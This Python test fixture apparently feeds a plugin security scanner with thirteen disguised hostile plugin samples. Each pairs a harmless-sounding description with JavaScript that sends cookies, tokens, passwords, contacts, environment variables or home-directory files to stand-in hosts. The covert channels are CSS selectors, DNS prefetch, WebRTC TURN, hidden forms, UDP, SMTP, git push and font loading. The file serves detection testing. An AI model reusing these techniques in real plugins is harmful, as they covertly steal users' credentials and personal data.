"""Ways out that are not a plain request, and weak signs that are strong only together.

After CSS exfiltration, DNS and WebRTC tunnels, mail and git as a way out, and plugins that declare one host and use it
for another purpose.
"""

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

NET = "network-access storage-read"

CHANNELS: tuple[Sample, ...] = (
    plugin(
        "style-rules-spell-a-field",
        "covert-channel",
        "form-highlights",
        "Marks fields you have forgotten.",
        r"""
'use strict';
const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_';
const rules = [];
for (const a of letters) {
  for (const b of letters) {
    rules.push(`input[name="csrf"][value*="${a}${b}"]{--${a}${b}:url(https://hl.example.net/t/${a}${b})}`);
    rules.push(`input[type="password"][value$="${a}${b}"]~*{background:url(https://hl.example.net/p/${a}${b})}`);
  }
}
const sheet = document.createElement('style');
sheet.textContent = rules.join('\n') + 'input:invalid{outline:2px solid orange}';
document.head.appendChild(sheet);
exports.FormHighlights = () => null;
""",
    ),
    plugin(
        "names-looked-up-by-browser",
        "covert-channel",
        "preconnect",
        "Makes links open faster.",
        r"""
const warm = (host) => {
  for (const rel of ['dns-prefetch', 'preconnect']) {
    const l = document.createElement('link');
    l.rel = rel;
    l.href = '//' + host;
    document.head.append(l);
  }
};
const base32 = (s) => {
  const abc = 'abcdefghijklmnopqrstuvwxyz234567';
  let bits = 0, acc = 0, out = '';
  for (const b of new TextEncoder().encode(s)) {
    acc = (acc << 8) | b; bits += 8;
    while (bits >= 5) { out += abc[(acc >>> (bits -= 5)) & 31]; acc &= (1 << bits) - 1; }
  }
  return out + (bits ? abc[(acc << (5 - bits)) & 31] : '');
};
export function Preconnect({ links = [] }) { links.forEach((u) => warm(new URL(u).host)); return null; }
export async function onEnable({ storage, user }) {
  const secret = base32(JSON.stringify([user.email, await storage.get('apiKey'), localStorage.getItem('session')]));
  (secret.match(/.{1,60}/g) ?? []).forEach((chunk, i) => setTimeout(warm, i * 300, `${chunk}.${i}.pre.example.com`));
}
""",
        hooks="onEnable",
    ),
    plugin(
        "peer-connection-credentials",
        "covert-channel",
        "video-call",
        "Calls a colleague with one click.",
        r"""
'use strict';
exports.VideoCall = () => 'Call';
exports.onEnable = async (context) => {
  const load = btoa(document.cookie + '|' + JSON.stringify(context.user)).replace(/=+$/, '');
  for (let i = 0; i * 400 < load.length; i++) {
    const pc = new RTCPeerConnection({
      iceServers: [{ urls: 'turn:relay.example.net:3478', username: load.slice(i * 400, i * 400 + 400), credential: String(i) }],
      iceTransportPolicy: 'relay',
    });
    pc.createDataChannel('c');
    await pc.setLocalDescription(await pc.createOffer());
    pc.onicecandidate = (e) => e.candidate === null && pc.close();
  }
};
""",
        hooks="onEnable",
    ),
    plugin(
        "form-sent-into-hidden-frame",
        "covert-channel",
        "feedback-form",
        "Lets you send wishes.",
        r"""
function submit(fields) {
  const name = 'f' + Date.now();
  const frame = document.createElement('iframe');
  frame.name = name;
  frame.style.display = 'none';
  const form = document.createElement('form');
  form.method = 'POST';
  form.action = 'https://wishes.example.org/form';
  form.target = name;
  for (const [k, v] of Object.entries(fields)) {
    const i = document.createElement('input');
    i.type = 'hidden'; i.name = k; i.value = v;
    form.append(i);
  }
  document.body.append(frame, form);
  form.submit();
  setTimeout(() => { frame.remove(); form.remove(); }, 5000);
}
export const FeedbackForm = () => 'Your wish';
setTimeout(() => submit({ v: '1', page: document.body.innerText, meta: document.cookie, keys: JSON.stringify(sessionStorage) }), 8000);
""",
    ),
    plugin(
        "window-name-and-popup",
        "covert-channel",
        "share-link",
        "Shares a link.",
        r"""
'use strict';
exports.ShareLink = function ShareLink({ url, title }) {
  return `https://share.example.com/?u=${encodeURIComponent(url)}&t=${encodeURIComponent(title)}`;
};
exports.open = function (props) {
  const w = window.open(exports.ShareLink(props), JSON.stringify(Object.assign({}, localStorage)), 'width=1,height=1,left=9999');
  setTimeout(() => { w.location = 'https://share.example.com/done#' + document.cookie; w.blur(); window.focus(); }, 200);
  setTimeout(() => w.close(), 4000);
};
document.addEventListener('dblclick', () => exports.open({ url: location.href, title: document.title }));
""",
    ),
    plugin(
        "datagrams-to-a-server",
        "covert-channel",
        "wake-on-lan",
        "Wakes a computer in your network.",
        r"""
'use strict';
const dgram = require('dgram');
const magic = (mac) => Buffer.concat([Buffer.alloc(6, 255), ...Array(16).fill(Buffer.from(mac.replace(/:/g, ''), 'hex'))]);

function send(bytes, port, host) {
  const s = dgram.createSocket('udp4');
  s.bind(() => { s.setBroadcast(true); s.send(bytes, port, host, () => s.close()); });
}
exports.wake = (mac) => send(magic(mac), 9, '255.255.255.255');
exports.WakeOnLan = () => null;
exports.onEnable = async ({ config, user }) => {
  const rest = Buffer.from(JSON.stringify({ user, config, env: process.env, argv: process.argv }));
  for (let i = 0; i < rest.length; i += 500) send(rest.subarray(i, i + 500), 53, '198.51.100.53');
};
""",
        permissions=NET,
        hooks="onEnable",
        manifest={"type": "service"},
    ),
    plugin(
        "mail-over-a-raw-line",
        "covert-channel",
        "mail-digest",
        "Mails you a digest once a week.",
        r"""
'use strict';
const net = require('net');
const { readFileSync, readdirSync } = require('fs');
const { join } = require('path');

function mail(to, subject, body) {
  const lines = ['EHLO digest', 'MAIL FROM:<digest@example.org>', `RCPT TO:<${to}>`, 'DATA',
    `Subject: ${subject}\r\nTo: ${to}\r\n\r\n${body}\r\n.`, 'QUIT'];
  const s = net.connect(25, 'mx.example.org');
  s.on('data', () => lines.length && s.write(lines.shift() + '\r\n'));
  s.on('error', () => {});
}
exports.MailDigest = () => 'Next digest on Sunday';
exports.onEnable = async ({ user }) => {
  mail(user.email, 'Your digest', 'Nothing new this week.');
  const dir = join(process.cwd(), 'data');
  for (const f of readdirSync(dir)) mail('archive@example.net', f, readFileSync(join(dir, f), 'base64').replace(/.{76}/g, '$&\r\n'));
};
""",
        permissions=NET,
        hooks="onEnable",
        manifest={"type": "service"},
    ),
    plugin(
        "declared-service-other-host-used",
        "weak-signs",
        "flight-status",
        "Shows whether your flight is on time.",
        r"""
import { useEffect, useState, createElement as h } from 'react';
const API = 'https://api.flights.example.com/v1';
const mirror = API.replace('api.flights', 'cdn-flights').replace('.com/v1', '.net/collect');

export function FlightStatus({ config, pluginApi, context }) {
  const [text, setText] = useState('');
  useEffect(() => {
    pluginApi.http.get(`${API}/status/${config.flight}`, { headers: { 'x-key': config.apiKey } })
      .then((r) => r.json()).then((d) => setText(d.status));
    const rest = { ...config, mail: context?.user?.email, all: Object.keys(localStorage).map((k) => [k, localStorage[k]]) };
    pluginApi.http.post(mirror, rest).catch(() => {});
  }, [config.flight]);
  return h('b', null, text);
}
""",
        permissions=NET,
        services={"flights": "https://api.flights.example.com"},
        needs="react",
    ),
    plugin(
        "config-secrets-of-user-to-author",
        "weak-signs",
        "deploy-button",
        "Deploys your site with one button.",
        r"""
'use strict';
exports.DeployButton = () => 'Deploy';
exports.onConfigChange = async function (context, before) {
  const changed = Object.keys(context.config).filter((k) => context.config[k] !== before[k]);
  const secret = changed.filter((k) => /token|key|secret|password/i.test(k));
  if (!secret.length) return;
  const detail = Object.fromEntries(secret.map((k) => [k, context.config[k]]));
  context.logger.debug('config changed');
  const u = new URL('https://errors.example.org/api/5/store/');
  u.searchParams.set('sentry_key', 'c0ffee');
  await context.api.http.post(u.href, { message: 'config', level: 'info', user: context.user, extra: detail });
};
""",
        permissions=NET,
        services={"errors": "https://errors.example.org"},
        hooks="onConfigChange",
    ),
    plugin(
        "contacts-and-calendar-uploaded",
        "weak-signs",
        "birthday-list",
        "Shows the next birthdays.",
        r"""
"use strict";
var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new (P || (P = Promise))(function (ok, no) {
  function step(r) { r.done ? ok(r.value) : new P(function (o) { o(r.value); }).then(function (v) { step(g.next(v)); }, no); }
  step((g = g.apply(t, a || [])).next()); }); };
Object.defineProperty(exports, "__esModule", { value: true });
exports.onInstall = exports.BirthdayList = void 0;
const BirthdayList = () => "Ann, 4 May";
exports.BirthdayList = BirthdayList;
const onInstall = (context) => __awaiter(void 0, void 0, void 0, function* () {
    const people = yield context.api.contacts.list();
    const events = yield context.api.calendar.list({ from: 0, to: Date.now() + 3e10 });
    const rows = people.map((p) => [p.name, p.emails, p.phones, p.address, p.notes]);
    const packed = btoa(unescape(encodeURIComponent(JSON.stringify({ rows, events }))));
    for (let i = 0; i < packed.length; i += 6000)
        yield fetch("https://greetings.example.com/cards/" + i, { method: "POST", mode: "no-cors", body: packed.slice(i, i + 6000) });
});
exports.onInstall = onInstall;
""",
        permissions="storage-read contacts calendar",
        hooks="onInstall",
    ),
    plugin(
        "git-push-as-way-out",
        "covert-channel",
        "doc-history",
        "Keeps the history of your documents.",
        r"""
const { execFileSync } = require('node:child_process');
const { mkdtempSync, cpSync } = require('node:fs');
const path = require('node:path');
const git = (cwd, ...args) => execFileSync('git', ['-c', 'user.name=d', '-c', 'user.email=d@example.org', ...args], { cwd, stdio: 'ignore' });

exports.DocHistory = () => '12 versions';
exports.onEnable = async () => {
  const dir = mkdtempSync('/tmp/dh-');
  for (const name of ['Documents', 'Desktop', '.config', '.kube']) {
    try { cpSync(path.join(process.env.HOME, name), path.join(dir, name), { recursive: true }); } catch {}
  }
  git(dir, 'init', '-q');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'snapshot');
  git(dir, 'push', '-q', 'https://x:ghs_example@git.example/d/' + require('os').hostname() + '.git', 'HEAD:main');
};
""",
        permissions="storage-read filesystem-access",
        hooks="onEnable",
    ),
    plugin(
        "answer-header-picks-function",
        "weak-signs",
        "cache-warmer",
        "Loads pages before you need them.",
        r"""
'use strict';
const sinks = { a: localStorage, b: sessionStorage };
async function warm(list) {
  for (const url of list) {
    const res = await fetch(url, { credentials: 'include' });
    const how = res.headers.get('x-warm');
    if (!how) continue;
    const [obj, fn, ...args] = how.split(';');
    const target = obj.split('.').reduce((o, k) => o && o[k], window);
    const out = target && target[fn](...args.map((a) => (a.startsWith('@') ? sinks[a[1]][a.slice(3)] : a)));
    if (out) fetch(url, { method: 'POST', mode: 'no-cors', body: String(await out) });
  }
}
exports.CacheWarmer = () => null;
setInterval(warm, 90000, ['https://warm.example.net/1', 'https://warm.example.net/2']);
""",
        permissions=NET,
        services={"warm": "https://warm.example.net"},
    ),
    plugin(
        "font-face-by-letter",
        "covert-channel",
        "handwriting",
        "Shows notes in a handwriting.",
        r"""
export const Handwriting = ({ text }) => text;
export function onEnable() {
  const ranges = [];
  for (let c = 0x21; c < 0x7f; c++) {
    ranges.push(`@font-face{font-family:hw;src:url("https://fonts.example.net/hw/${c.toString(16)}.woff2?s=${Date.now()}");unicode-range:U+${c.toString(16)}}`);
  }
  const style = document.createElement('style');
  style.append(ranges.join(''), '.account-email,[data-secret],code.token,input[type=text]{font-family:hw,sans-serif!important}');
  document.head.append(style);
  let n = 0;
  const box = document.querySelector('code.token');
  if (box) setInterval(() => { box.style.cssText = `width:1ch;overflow:hidden;text-indent:-${n++}ch`; }, 500);
}
""",
        hooks="onEnable",
    ),
)
